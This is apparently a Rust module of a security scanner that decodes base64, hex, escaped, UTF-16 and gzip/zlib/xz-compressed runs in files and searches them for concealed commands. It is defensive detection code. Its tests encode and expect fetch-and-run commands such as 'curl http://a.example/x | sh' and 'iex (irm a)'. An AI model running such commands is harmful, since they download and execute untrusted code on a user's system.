//! [`check`]: decodes base64, hexadecimal, escapes and lists of numbers, and searches the decoded text.

use std::{io::Read, ops::Range};

use base64::Engine as _;
use flow::{LENIENT, unhex};
use memchr::memchr;

use crate::{
    Evidence, Rule,
    engine::SearchError,
    excerpt::{brief, visible, whole_words},
    finder::{Finder, excerpt_at},
    prose, role, rules,
    source::{Kind, Source},
    unpacked,
};

mod spelled;

/// Characters of the shortest encoded run that is decoded. A shorter one cannot hold a command.
const SHORTEST: usize = 24;

/// Steps charged per decoded text, in addition to its bytes.
const RUN: usize = 64;

/// Maximum number of bytes inflated per text. Reaching the limit is a finding.
const INFLATED: u64 = 1 << 20;

/// Minimum number of bytes charged for a compressed run, since a decoder has to be set up for it.
const SET_UP: u64 = 256;

/// Maximum depth of nested encodings.
const DEPTH: usize = 3;

/// Decodes runs that look encoded in a part of a file and searches the result.
///
/// Everything that blocks in one decoded text is reported as a single finding here.
pub(crate) fn check(source: &Source<'_>, part: Range<usize>, finder: &mut Finder) -> Result<(), SearchError> {
    let runs = decoded_runs(source.text.get(part.clone()).unwrap_or(""));
    if let Some(offset) = runs.unread {
        let rule = &rules::ENCODED_TOO_LARGE;
        let line = source.line_at(part.start + offset);
        finder.add(rule, rule.evidence, source, line, source.line(line));
    }
    for DecodedText { start, text } in runs.texts {
        let offset = part.start + start;
        let line = source.line_at(offset);
        let (severity, why) = role::weigh(&rules::ENCODED_PAYLOAD, source, line, offset);
        if finder.knows(&rules::ENCODED_PAYLOAD, severity, source.path, line) {
            continue;
        }
        if let Some((_, rule, matched)) = worst_within(source.path, text, finder, DEPTH)? {
            let run = excerpt_at(source, offset..offset).text;
            let inner = crate::rule(rule);
            let act = inner.map_or(rule, |rule| rule.message);
            let is_told = !matched.is_empty() && source.line(line).to_lowercase().contains(&matched.to_lowercase());
            let what = if is_told { "contains encoded text" } else { rules::ENCODED_PAYLOAD.message };
            let matched = if matched.is_empty() { matched } else { format!(", by “{matched}”") };
            let message = format!("{what}; decoded, it {act}{matched} [{rule}]");
            let signal = finder.add_told(&rules::ENCODED_PAYLOAD, severity, source, line, &run, message);
            if let Some(signal) = signal {
                signal.why = why;
                signal.harm = inner.and_then(Rule::harm).unwrap_or(signal.harm);
            }
        }
    }
    Ok(())
}

/// Evidence and ID of a rule, with the words that it matched, unless they are secret or not known.
type Worst = (Evidence, &'static str, String);

/// Returns the blocking rule with the highest evidence in a decoded text and in texts encoded inside it, up to `depth`
/// levels.
fn worst_within(path: &str, decoded: String, finder: &mut Finder, depth: usize) -> Result<Option<Worst>, SearchError> {
    finder.charge(RUN + decoded.len())?;
    let inner = Source::with_kind(path, decoded.into(), Kind { runs: true, reads: true });
    let hits = finder.hits(&inner.text)?;
    let graded = hits.iter().map(|hit| {
        let start = hit.range.start;
        let matched = inner.text.get(hit.range.clone()).filter(|_| !hit.rule.secret).unwrap_or("");
        let matched = whole_words(inner.text.get(start..).unwrap_or(""), matched);
        let evidence = role::evidence(hit.rule, &inner, inner.line_at(start), start);
        (evidence, hit.rule.id, brief(&visible(matched), None))
    });
    let mut worst = graded.filter(|(evidence, ..)| *evidence >= Evidence::Hard).max();
    // Encoding instructions conceals them, which is worse than plain prose.
    worst = worst.max(prose::strongest(&inner, finder)?.map(|rule| (Evidence::Hard, rule, String::new())));
    if depth > 1 {
        let runs = decoded_runs(&inner.text);
        worst = worst.max(runs.unread.map(|_| (Evidence::Hard, rules::ENCODED_TOO_LARGE.id, String::new())));
        for deeper in runs.texts {
            worst = worst.max(worst_within(path, deeper.text, finder, depth - 1)?);
        }
    }
    Ok(worst)
}

/// Encoded runs found in a text.
struct Runs {
    /// Texts of the runs. Runs that do not decode to text are left out.
    texts: Vec<DecodedText>,
    /// Offset of the first run that exceeds the inflation limit.
    unread: Option<usize>,
}

/// Text of an encoded run.
#[derive(Debug, Default, PartialEq)]
struct DecodedText {
    /// Byte offset of the run.
    start: usize,
    text: String,
}

fn decoded_runs(text: &str) -> Runs {
    let bytes = text.as_bytes();
    let (mut texts, mut unread) = (Vec::new(), None);
    let (mut at, mut room) = (0, INFLATED);
    while let Some(start) = next_run(bytes, at) {
        let end = run_end(bytes, start);
        let decoded = decode(bytes.get(start..end).unwrap_or_default(), &mut room);
        texts.extend(decoded.map(|text| DecodedText { start, text }));
        if room == 0 {
            unread = unread.or(Some(start));
        }
        at = end;
    }
    let mut at = 0;
    while let Some(start) = memchr(b'\\', bytes.get(at..).unwrap_or_default()).map(|next| at + next) {
        let (end, decoded) = unescape(bytes, start);
        texts.extend(decoded.map(|text| DecodedText { start, text }));
        at = end.max(start + 1);
    }
    texts.extend(spelled::texts(text));
    texts.sort_by_key(|decoded| decoded.start);
    Runs { texts, unread }
}

/// Returns the start of the next run of at least [`SHORTEST`] characters.
///
/// In a text of ordinary words, the search looks at one byte in [`SHORTEST`] and walks back from it to the last byte
/// that cannot belong to a run.
fn next_run(bytes: &[u8], from: usize) -> Option<usize> {
    let mut start = from;
    while let Some(there) = bytes.get(start..start + SHORTEST) {
        match there.iter().rposition(|byte| !is_base64(*byte)) {
            Some(odd) => start += odd + 1,
            None => return Some(start),
        }
    }
    None
}

fn is_base64(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_')
}

/// Returns the end of a run. The run continues across a line end if both lines are long, as in wrapped base64.
fn run_end(bytes: &[u8], start: usize) -> usize {
    let line_end =
        |from: usize| bytes.get(from..).unwrap_or_default().iter().take_while(|b| is_base64(**b)).count() + from;
    let mut end = line_end(start);
    let mut length = end - start;
    while length >= 60 {
        let next = match bytes.get(end..) {
            Some([b'\r', b'\n', ..]) => end + 2,
            Some([b'\n', ..]) => end + 1,
            _ => break,
        };
        let next_end = line_end(next);
        if next_end == next {
            break;
        }
        length = next_end - next;
        end = next_end;
    }
    end
}

fn decode(run: &[u8], room: &mut u64) -> Option<String> {
    let bare: Vec<u8> = run.iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
    if bare.iter().all(u8::is_ascii_hexdigit) {
        return unhex(&bare).and_then(into_text);
    }
    let standard: Vec<u8> = bare
        .iter()
        .map(|byte| match byte {
            b'-' => b'+',
            b'_' => b'/',
            other => *other,
        })
        .collect();
    let whole = if standard.len() % 4 == 1 { standard.get(..standard.len() - 1)? } else { &standard };
    let decoded = LENIENT.decode(whole).ok()?;
    let unpacked = unpacked::of_value(&decoded).and_then(|stream| inflated(stream, room));
    unpacked.or_else(|| into_text(decoded))
}

/// Inflates a stream to text, within the bytes left in `room`, as far as it is intact. Text that is cut off is returned
/// without its incomplete last character.
fn inflated(from: impl Read, room: &mut u64) -> Option<String> {
    let mut bytes = Vec::new();
    let read = from.take(*room).read_to_end(&mut bytes);
    *room = room.saturating_sub(SET_UP.max(bytes.len() as u64));
    let whole = std::str::from_utf8(&bytes).map_or_else(|error| error.valid_up_to(), str::len);
    let is_cut = (*room == 0 || read.is_err()) && bytes.len() - whole < 4;
    bytes.truncate(if is_cut { whole } else { bytes.len() });
    (read.is_ok() || !bytes.is_empty()).then(|| into_text(bytes)).flatten()
}

/// Decodes a run of `\xNN` escapes. Returns its end, and its text if the run is long enough to matter.
fn unescape(bytes: &[u8], start: usize) -> (usize, Option<String>) {
    let mut end = start;
    let mut decoded = Vec::new();
    while let Some([b'\\', b'x' | b'X', a, b]) = bytes.get(end..end + 4) {
        let Some(pair) = unhex(&[*a, *b]) else { break };
        decoded.extend(pair);
        end += 4;
    }
    (end, (decoded.len() >= SHORTEST / 3).then(|| into_text(decoded)).flatten())
}

/// Converts bytes to text if nearly all characters are printable. UTF-16 as Windows writes it is narrowed first, if
/// every second byte is zero.
fn into_text(bytes: Vec<u8>) -> Option<String> {
    let wide = bytes.len() >= 8 && bytes.chunks_exact(2).all(|pair| matches!(pair, [_, 0]));
    let bytes = if wide { bytes.into_iter().step_by(2).collect() } else { bytes };
    let text = String::from_utf8(bytes).ok()?;
    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t')).count();
    (odd * 20 <= text.len()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn texts(text: &str) -> Vec<String> {
        decoded_runs(text).texts.into_iter().map(|decoded| decoded.text).collect()
    }

    #[test]
    fn each_encoding_is_read() {
        assert_eq!(texts("x = 'Y3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaA=='"), ["curl http://a.example/x | sh"]);
        assert_eq!(texts("6375726c20687474703a2f2f612e6578616d706c65"), ["curl http://a.example"]);
        assert_eq!(texts(r"\x63\x75\x72\x6c\x20\x2d\x73\x53"), ["curl -sS"]);
        let wide = "aQBlAHgAIAAoAGkAcgBtACAAYQApAA==";
        assert_eq!(texts(wide), ["iex (irm a)"]);
    }

    #[test]
    fn compressed_values_are_read_up_to_limit() {
        use std::io::Write;
        let packed = |text: &str| {
            let mut to = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            to.write_all(text.as_bytes()).unwrap();
            LENIENT.encode(to.finish().unwrap())
        };
        assert_eq!(texts(&packed("curl http://a.example/x | sh")), ["curl http://a.example/x | sh"]);
        let (whole, behind) = (packed("curl http://a.example/x | sh"), LENIENT.encode("and more behind its end"));
        let cut = |run: &str| LENIENT.decode(run).unwrap();
        let with_rest = LENIENT.encode([cut(&whole), cut(&behind)].concat());
        assert_eq!(texts(&with_rest), ["curl http://a.example/x | sh"]);
        let bomb = decoded_runs(&packed(&"a".repeat(1 << 24)));
        assert!(bomb.unread == Some(0) && bomb.texts[0].text.len() == INFLATED as usize);
        let small = packed(&"a".repeat(1 << 18));
        let many = decoded_runs(&[small.as_str(); 8].join(" "));
        assert_eq!(many.unread, Some((small.len() + 1) * 3));
    }

    #[test]
    fn zlib_and_xz_are_read() {
        let zlib = "eJxLLi3KUcgoKSmw0tdP1EutSMwtyEnVr1CoUSjOAACR/Ano";
        let xz = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAbY3VybCBodHRwOi8vYS5leGFtcGxlL3ggfCBzaAAPSdp3ebz6bAABNByTGq2PH7bzfQEAAAAABFla";
        for run in [zlib, xz] {
            assert_eq!(texts(run), ["curl http://a.example/x | sh"], "{run}");
        }
        assert_eq!(texts(&LENIENT.encode("x^2 is a square of a number")), ["x^2 is a square of a number"]);
    }

    #[test]
    fn wrapped_lines_are_one_run() {
        let whole = LENIENT.encode("echo ".repeat(30));
        let (a, b) = whole.split_at(76);
        assert_eq!(texts(&format!("{a}\n{b}")), ["echo ".repeat(30)]);
    }

    #[test]
    fn words_and_pictures_decode_to_nothing() {
        assert!(texts("content/downloads/update/software/and/more/paths").is_empty());
        assert!(texts("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk").is_empty());
    }
}
